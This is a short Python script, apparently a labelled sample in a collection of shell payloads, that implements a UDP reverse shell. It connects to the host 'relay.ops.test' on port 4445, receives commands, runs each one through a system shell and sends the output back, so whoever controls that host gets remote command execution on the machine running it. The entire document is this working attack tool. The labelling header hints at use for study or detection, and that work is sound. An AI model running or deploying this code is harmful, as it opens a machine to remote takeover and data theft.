# class: shell; possible: low medium; style: UDP, one process per datagram
import socket
import subprocess

u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("relay.ops.test", 4445))
u.settimeout(15)
u.send(b"here")
while True:
    try:
        command = u.recv(4096).decode()
    except OSError:
        break
    if command.strip() == "exit":
        break
    out = subprocess.run(command, shell=True, capture_output=True)
    u.send((out.stdout + out.stderr)[:1200] or b"\n")
